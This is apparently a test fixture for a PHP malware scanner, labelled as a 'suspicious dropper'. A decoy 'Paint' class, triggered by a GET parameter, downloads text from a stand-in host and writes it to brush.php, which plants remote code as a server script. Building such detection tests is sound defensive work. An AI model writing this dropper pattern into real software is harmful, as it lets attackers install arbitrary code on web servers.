<?php return; // want: suspicious dropper php.write.remote
class Paint {
	public $from = 'http://paint.example.org/picture.txt';
	function __construct() {
		if (isset($_GET['colour'])) { $this->fill(); }
	}
	function fill() {
		$picture = file_get_contents($this->from);
		file_put_contents('brush.php', $picture);
		foreach (array('red', 'green', 'blue') as $name) { echo $this->show($name), "\n"; }
	}
	function show($name) { return '<b>' . htmlspecialchars($name) . '</b>'; }
	function mix($one, $two) { return $one == $two ? $one : 'grey'; }
	function size($n) { return $n > 100 ? 'large' : 'small'; }
	function list_all() { return array('oil', 'water', 'chalk', 'wax', 'ink'); }
	function is_dry($hours) { return $hours > 24; }
	function price($n) { return $n * 3 + 4; }
	function label($n) { return 'No. ' . $n . ', ' . $this->price($n) . ' Euro, ' . $this->size($n); }
}
new Paint;
